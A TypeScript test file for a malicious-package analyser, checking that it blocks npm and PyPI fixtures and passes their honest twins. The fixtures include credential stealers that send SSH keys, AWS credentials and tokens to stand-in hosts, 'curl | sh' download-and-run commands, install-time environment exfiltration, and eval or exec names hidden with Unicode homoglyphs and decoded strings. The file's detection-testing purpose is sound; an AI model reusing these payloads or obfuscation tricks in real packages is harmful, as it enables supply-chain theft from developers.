/**
 * The `pkgrecall` round (issue 22): named gaps of the package analysis, each a general rule with its
 * real shape (an even-index blind item where there is one), variants written here and the honest twin
 * it must not flag:
 *
 *  - a reader that throws no longer drops its file's findings silently: `reader_failed`, MEDIUM for a
 *    file that runs at install or import, LOW elsewhere (collector/reader-guard.ts);
 *  - Python identifiers read after NFKC normalisation by every reader, for every letter NFKC folds
 *    (modifier letters, the long s), not only mathematical and fullwidth ones (python/nfkc.ts);
 *  - a large JavaScript file weighed per function, and its module-level code with the functions it
 *    calls, by the backstop (npm/js-units.ts);
 *  - a data file's string that is process-starting code reaching a remote host, in a package whose code
 *    evaluates strings (collector/data-code.ts).
 *
 * Archives are built in memory; nothing is run. Hosts are invented (`.example`, TEST-NET addresses).
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { analyzeArchive } from '../../shared/packages/analysis/index.js';
import { injectReaderFault } from '../../shared/packages/analysis/collector/reader-guard.js';
import { nfkcDangerous, nfkcFold } from '../../shared/packages/analysis/python/nfkc.js';
import { jsUnits } from '../../shared/packages/analysis/npm/js-units.js';
import { npmTgz } from '../fixtures/archives/build.js';
import { rateNpmFiles } from '../support/blind-halves.js';
import type { NpmVariant } from '../support/npm-variants.js';
import { NPM_VARIANTS_SET10 } from '../support/npm-variants-set10.js';
import { blocked, evenOf, honest, rate } from '../support/pypi-variant-rating.js';
import { sdist } from '../support/pypi-variants-pypi22.js';
import { PYPI_VARIANTS_SET5 } from '../support/pypi-variants-set5.js';

const pypi5 = evenOf(PYPI_VARIANTS_SET5);

/** An even-index (tuning) item of npm SET10 by id; a held-out one fails the test. */
function npm10(id: string): NpmVariant {
  const i = NPM_VARIANTS_SET10.findIndex((v) => v.id === id);
  assert.ok(i >= 0 && i % 2 === 0, `${id} is an even-index (tuning) variant`);
  return NPM_VARIANTS_SET10[i]!;
}

const pj = (extra: Record<string, unknown> = {}): string =>
  JSON.stringify({ name: 'pkgx', version: '1.0.0', main: 'index.js', ...extra });

async function npmBlocked(files: Record<string, string>, rule?: string): Promise<void> {
  const r = await rateNpmFiles(files);
  assert.is(r.level, 'BLOCKED', `${r.level} (${r.rules.join(', ')})`);
  if (rule)
    assert.ok(
      r.rules.some((x) => x.startsWith(`${rule}:`)),
      `${rule} not among ${r.rules.join(', ')}`,
    );
}

async function npmHonest(files: Record<string, string>): Promise<void> {
  const r = await rateNpmFiles(files);
  assert.ok(r.level !== 'BLOCKED' && r.level !== 'CAUTION', `${r.level} (${r.rules.join(', ')})`);
}

// ---- a reader that throws ----------------------------------------------------------------------------

const SENDER = {
  'package.json': pj(),
  'index.js': "const https = require('https');\nhttps.get('https://198.51.100.9/x?t=' + process.env.NPM_TOKEN);\n",
  'lib/util.js': 'module.exports = (a) => a;\n',
  'test/smoke.js': "require('https').get('https://198.51.100.9/');\n",
};

test('reader_failed: the entry file whose reader throws is MEDIUM (CAUTION), never CLEAR', async () => {
  try {
    assert.is((await rateNpmFiles(SENDER)).level, 'BLOCKED');
    injectReaderFault((reader, path) => reader === 'file' && path.endsWith('/index.js'));
    const r = await rateNpmFiles(SENDER);
    assert.is(r.level, 'CAUTION', r.rules.join(', '));
    assert.ok(r.rules.includes('reader_failed:MEDIUM'));
    // Variant: the flow reader alone throws; the file's pattern findings stand and the failure is reported.
    injectReaderFault((reader) => reader === 'js-flow');
    const a = await analyzeArchive(npmTgz(SENDER), {
      kind: 'tgz',
      registry: 'npm',
      registryHosts: ['registry.example.org'],
    });
    const f = a.findings.find((x) => x.ruleId === 'reader_failed' && x.file.endsWith('/index.js'));
    assert.ok(f, 'reader_failed on index.js');
    assert.is(f!.severity, 'MEDIUM');
    assert.match(f!.message, /js-flow/);
    assert.match(f!.message, /import-time/);
    // A test file whose reader throws is a note: it never runs on install or import.
    const t = a.findings.find((x) => x.ruleId === 'reader_failed' && x.file.endsWith('/test/smoke.js'));
    assert.is(t?.severity, 'LOW');
  } finally {
    injectReaderFault(null);
  }
});

// A module read again with what its imports return (collector/follow.ts) goes through the same guard:
// a throw there is reported, not swallowed into a lower score.
const FOLLOWED = {
  'package.json': pj(),
  'index.js': "const token = require('./lib/token');\nconst https = require('https');\nhttps.get('https://198.51.100.9/x?t=' + token());\n",
  'lib/token.js': 'module.exports = () => process.env.NPM_TOKEN;\n',
};

test('reader_failed: a follow-up read across modules that throws is reported on the file it was reading', async () => {
  const seen = new Set<string>();
  try {
    injectReaderFault((reader) => {
      if (reader.startsWith('js-flow (')) seen.add(reader);
      return reader === 'js-flow (imports)' || reader === 'js-flow (exports)';
    });
    const a = await analyzeArchive(npmTgz(FOLLOWED), { kind: 'tgz', registry: 'npm', registryHosts: ['registry.example.org'] });
    assert.ok(seen.size > 0, 'the follow-up readers ran through the guard');
    const f = a.findings.filter((x) => x.ruleId === 'reader_failed');
    assert.ok(f.some((x) => /js-flow \((imports|exports)\)/.test(x.message)), JSON.stringify(f));
  } finally {
    injectReaderFault(null);
  }
  // Honest run: nothing throws, nothing is reported.
  const b = await analyzeArchive(npmTgz(FOLLOWED), { kind: 'tgz', registry: 'npm', registryHosts: ['registry.example.org'] });
  assert.not.ok(b.findings.some((x) => x.ruleId === 'reader_failed'));
});

test('reader_failed: Python, the import-time module whose parser throws; a runtime module only a note', async () => {
  const v = sdist('quiet-cfg', {
    'quiet_cfg/__init__.py': 'from .core import load\n',
    'quiet_cfg/core.py': 'import json\ndef load(p):\n    return json.load(open(p))\n',
    'quiet_cfg/extra/tool.py': "def run():\n    print('x')\n",
  });
  try {
    injectReaderFault((reader, path) => reader === 'file' && path.endsWith('quiet_cfg/__init__.py'));
    const r = await rate(v);
    assert.is(r.level, 'CAUTION');
    injectReaderFault((reader, path) => reader === 'file' && path.endsWith('extra/tool.py'));
    const a = await rate(v);
    assert.ok(a.level !== 'CAUTION' && a.level !== 'BLOCKED', a.level);
  } finally {
    injectReaderFault(null);
  }
  // Honest twin: nothing throws, nothing is reported.
  await honest(v);
});

// ---- NFKC identifiers -------------------------------------------------------------------------------

const B64 = 'aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBzaCcp';

test('NFKC: modifier letters, the long s and fullwidth letters are read as Python reads them', async () => {
  // ᵉˣᵉᶜ is exec (modifier letters, outside the mathematical and fullwidth blocks).
  await blocked(sdist('tiny-fmt', { 'tiny_fmt/__init__.py': `import base64\nᵉˣᵉᶜ(base64.b64decode('${B64}'))\n` }));
  // oſ.ſyſtem is os.system (U+017F LATIN SMALL LETTER LONG S).
  await blocked(
    sdist('tiny-run', { 'tiny_run/__init__.py': "import oſ\noſ.ſyſtem('curl http://198.51.100.9/x | sh')\n" }),
  );
  // Fullwidth __ｉｍｐｏｒｔ__ in setup.py, and a stealer whose send is spelled with the long s.
  await blocked(
    sdist('tiny-build', {
      'setup.py': `from setuptools import setup\n__ｉｍｐｏｒｔ__('os').system('curl -s http://198.51.100.9/i | sh')\nsetup(name='tiny-build', version='1.0.0')\n`,
    }),
  );
  await blocked(
    sdist('tiny-sync', {
      'tiny_sync/__init__.py':
        "import os, requests\nd = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequeſts.poſt('http://198.51.100.9/c', data=d)\n",
    }),
  );
});

test('NFKC: a dangerous name spelled with folded letters is itself a finding when the parser did not read the file', () => {
  const f = nfkcFold(Buffer.from("import oſ\noſ.ſyſtem('id')\n", 'utf8'))!;
  assert.ok(f);
  assert.is(f.content.toString('utf8'), "import os\nos.system('id')\n");
  assert.is(nfkcDangerous(f)?.normal, 'os');
  assert.is(nfkcDangerous(f)?.line, 1);
  // In a string or a comment the spelling is text, not a name.
  const s = nfkcFold(Buffer.from("print('ᵉˣᵉᶜ')  # ſyſtem\n", 'utf8'))!;
  assert.ok(s);
  assert.is(nfkcDangerous(s), null);
  // ASCII and letters NFKC leaves alone change nothing.
  assert.is(nfkcFold(Buffer.from("café = 'ü'\n", 'utf8')), null);
  assert.is(nfkcFold(Buffer.from('import os\n', 'utf8')), null);
});

test('NFKC: the finding stands when the parser fails on the file (reader_failed beside it)', async () => {
  try {
    injectReaderFault((reader) => reader === 'python-parser');
    const r = await rate(sdist('tiny-hide', { 'tiny_hide/__init__.py': 'import oſ\nx = 1\noſ.getcwd()\n' }));
    assert.ok(r.rules.includes('nfkc_identifier'), r.rules.join(', '));
    assert.is(r.level, 'BLOCKED');
  } finally {
    injectReaderFault(null);
  }
});

test('NFKC honest twins: accented identifiers, styled letters in strings and comments', async () => {
  await honest(
    sdist('fancy-print', {
      'fancy_print/__init__.py': "café = 'ü'\nGRÜSSE = ['𝘩𝘦𝘭𝘭𝘰', 'ᵉˣᵃᵐᵖˡᵉ']  # ſtyled\nprint(café, GRÜSSE)\n",
    }),
  );
});

// ---- large JavaScript files, per function -----------------------------------------------------------

const FILLER = Array.from(
  { length: 400 },
  (_, i) =>
    `function util${i}(a, b) { if (a == null) return b; return String(a).split(',').map(function (x) { return x.trim() + ${i}; }).join('|'); }`,
).join('\n');

test('units: a large file is cut into small functions and the module-level code with what it calls', () => {
  const src = `const fs = require('fs');\n${FILLER}\nlet c;\nfunction load() { c = 1; }\nfunction unused() { return 2; }\nload();\n`;
  const u = jsUnits(src)!.units;
  assert.ok(u.length > 400);
  const mod = u.find((x) => x.module)!;
  const text = mod.ranges.map(([a, b]) => src.slice(a, b)).join('\n');
  assert.match(text, /function load\(\)/);
  assert.match(text, /load\(\);/);
  assert.not.match(text, /function unused/);
});

test('backstop per function: a stealer inside a large bundle (readable and minified) is BLOCKED', async () => {
  const head = "const fs = require('fs'), os = require('os'), https = require('https');\n";
  // One function reads the SSH key and posts it to an address.
  await npmBlocked(
    {
      'package.json': pj(),
      'index.js': `${head}${FILLER}\nfunction collect() {\n  let out = {};\n  for (const f of ['.ssh/id_rsa', '.aws/credentials']) {\n    try { out[f] = fs.readFileSync(os.homedir() + '/' + f, 'utf8'); } catch (e) {}\n  }\n  const r = https.request({ hostname: '198.51.100.7', method: 'POST', path: '/u' });\n  r.end(JSON.stringify(out));\n}\ncollect();\nmodule.exports = { util0 };\n`,
    },
    'risk_combination',
  );
  // Minified: one line, an IIFE.
  await npmBlocked(
    {
      'package.json': pj(),
      'index.js': `${head.trim()}${FILLER.replace(/\n/g, ';')};!function(){var k;try{k=fs.readFileSync(os.homedir()+"/.ssh/id_rsa","utf8")}catch(e){}fetch("https://198.51.100.8/k",{method:"POST",body:k})}();module.exports={util0};`,
    },
    'risk_combination',
  );
  // Install time: a large postinstall script.
  await npmBlocked(
    {
      'package.json': pj({ scripts: { postinstall: 'node setup.js' } }),
      'setup.js': `${head}${FILLER}\nfunction env() { const e = JSON.stringify(process.env); https.request('https://collect.example/e', { method: 'POST' }).end(e); }\nenv();\n`,
      'index.js': 'module.exports = 1;\n',
    },
    'risk_combination',
  );
});

test('backstop at import: a secret read in one function and a foreign send in another, both run by module-level code', async () => {
  await npmBlocked(
    {
      'package.json': pj(),
      'index.js': `const fs = require('fs'), os = require('os');\n${FILLER}\nlet cache = '';\nfunction load() { try { cache = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'); } catch (e) {} }\nasync function report() { await fetch('https://metrics.example/i', { method: 'POST', body: globalThis.__c }); }\nload(); setTimeout(report, 10);\nmodule.exports = { util0 };\n`,
    },
    'risk_combination',
  );
});

test('backstop per function, honest twins: a key reader and an update check that nothing runs at load; docs links', async () => {
  const head = "const fs = require('fs'), os = require('os');\n";
  await npmHonest({
    'package.json': pj(),
    'index.js': `${head}${FILLER}\nfunction sshKey() { return fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'); }\nasync function latest() { return (await fetch('https://api.example/version')).json(); }\nmodule.exports = { sshKey, latest };\n`,
  });
  await npmHonest({
    'package.json': pj(),
    'index.js': `${head}${FILLER}\nfunction readKey(p) { return fs.readFileSync(p || os.homedir() + '/.ssh/id_rsa', 'utf8'); }\nfunction usage() { console.log('see https://docs.example/keys'); }\nusage();\nmodule.exports = { readKey, usage };\n`,
  });
});

test('backstop at import, Python: a secret read in one module and a foreign send in another, both run by __init__.py', async () => {
  await blocked(
    sdist('cfg-sync', {
      'cfg_sync/__init__.py': 'from .store import load\nfrom .net import sync\nload()\nsync()\n',
      'cfg_sync/store.py':
        "import os\nSTATE = {}\ndef load():\n    p = os.path.expanduser('~/.aws/credentials')\n    if os.path.exists(p):\n        STATE['c'] = open(p).read()\n",
      'cfg_sync/net.py':
        "import json, urllib.request\nfrom . import store\ndef sync():\n    urllib.request.urlopen(urllib.request.Request('https://telemetry.example/v1', data=json.dumps(store.STATE).encode()), timeout=3)\n",
    }),
    'risk_combination',
  );
  // Variant: a thread started at import runs the send; the secret is the environment filtered for tokens.
  await blocked(
    sdist('env-beacon', {
      'env_beacon/__init__.py':
        'import threading\nfrom ._c import gather\nfrom ._n import beacon\ngather()\nthreading.Thread(target=beacon, daemon=True).start()\n',
      'env_beacon/_c.py':
        "import os\nDATA = {}\ndef gather():\n    DATA.update({k: v for k, v in os.environ.items() if 'TOKEN' in k or 'KEY' in k})\n",
      'env_beacon/_n.py':
        "import requests\nfrom ._c import DATA\ndef beacon():\n    requests.post('https://metrics.example/i', json=DATA)\n",
    }),
    'risk_combination',
  );
});

test('backstop at import, Python honest twin: the key reader and the update check are only defined at import', async () => {
  await honest(
    sdist('cfg-sync2', {
      'cfg_sync2/__init__.py': 'from .store import load\nfrom .net import check\n',
      'cfg_sync2/store.py':
        "import os\ndef load():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n",
      'cfg_sync2/net.py':
        "import urllib.request\ndef check():\n    return urllib.request.urlopen('https://api.example/v').read()\n",
    }),
  );
});

// ---- code in data strings -----------------------------------------------------------------------------

test('data_string_code_exec: a locale rule that starts a download, compiled or evaluated by the package (real shapes)', async () => {
  const r = await rateNpmFiles(npm10('locale-plural-rule-new-function').files);
  assert.is(r.level, 'BLOCKED', r.rules.join(', '));
  assert.ok(r.rules.includes('data_string_code_exec:HIGH'));
  await blocked(pypi5('locale-json-plural-eval'), 'data_string_code_exec');
});

test('data_string_code_exec variants: a template filter in JSON run through eval (npm), a formula through exec (Python)', async () => {
  await npmBlocked(
    {
      'package.json': pj(),
      'index.js':
        "const filters = require('./filters.json');\nmodule.exports = (name, v) => eval('(' + filters[name] + ')')(v);\n",
      'filters.json': JSON.stringify({
        upper: 'function (v) { return v.toUpperCase(); }',
        trim: "function (v) { require('child_process').exec('wget -qO- http://198.51.100.4/t | sh'); return v.trim(); }",
      }),
    },
    'data_string_code_exec',
  );
  await blocked(
    sdist('formula-cells', {
      'formula_cells/__init__.py':
        "import json, pathlib\nF = json.loads((pathlib.Path(__file__).parent / 'f.json').read_text())\ndef cell(name, x):\n    return eval(F[name], {}, {'x': x})\n",
      'formula_cells/f.json': JSON.stringify({
        double: 'x * 2',
        sync: "__import__('subprocess').Popen(['sh', '-c', 'curl -s https://cells.example/s | sh']) or x",
      }),
    }),
    'data_string_code_exec',
  );
});

test('data_string_code_exec honest twins: plural expressions evaluated; a shell hint in JSON with an evaluator; code in JSON nothing evaluates', async () => {
  await npmHonest({
    'package.json': pj(),
    'index.js': "const L = require('./l.json');\nmodule.exports = (n) => new Function('n', 'return ' + L.plural)(n);\n",
    'l.json': JSON.stringify({ plural: 'n == 1 ? 0 : 1', install: 'curl -fsSL https://get.example/install.sh | sh' }),
  });
  await npmHonest({
    'package.json': pj(),
    'index.js': "module.exports = require('./snippets.json');\n",
    'snippets.json': JSON.stringify({ exec: { body: "require('child_process').exec('curl https://api.example/v1')" } }),
  });
  await honest(
    sdist('plural-py', {
      'plural_py/__init__.py':
        "import json, os\nR = json.load(open(os.path.join(os.path.dirname(__file__), 'r.json')))\ndef rule(n):\n    return eval(R['plural'], {}, {'n': n})\n",
      'plural_py/r.json': JSON.stringify({ plural: '0 if n == 1 else 1' }),
    }),
  );
});

// ---- a global looked up by a decoded name -----------------------------------------------------------

test('global_name_decoded: a Proxy trap that resolves eval from a reversed name (real shape) and variants', async () => {
  const r = await rateNpmFiles(npm10('proxy-trap-resolves-eval').files);
  assert.is(r.level, 'BLOCKED', r.rules.join(', '));
  assert.ok(r.rules.includes('global_name_decoded:HIGH'));
  // Variants: base64 through atob, character codes, Buffer hex; a fetch in the same file.
  for (const key of ['atob(k)', 'String.fromCharCode(...k.map((c) => c - 1))', "Buffer.from(k, 'hex').toString()"]) {
    await npmBlocked(
      {
        'package.json': pj(),
        'index.js': `const resolve = (k) => globalThis[${key}];\nfetch('https://cdn.example/p.js').then((r) => r.text()).then((s) => resolve(K)(s));\nmodule.exports = {};\n`,
      },
      'global_name_decoded',
    );
  }
});

test('global_name_decoded honest twins: feature detection by a plain name, a literal, a lower-cased key', async () => {
  await npmHonest({
    'package.json': pj(),
    'index.js':
      "const has = (name) => typeof globalThis[name] !== 'undefined';\nconst raf = window['requestAnimationFrame'] || ((f) => setTimeout(f, 16));\nconst g = (k) => global[k.toLowerCase()];\nmodule.exports = { has, raf, g, rev: (s) => s.split('').reverse().join('') };\nfetch('https://api.example/x');\n",
  });
});

test.run();
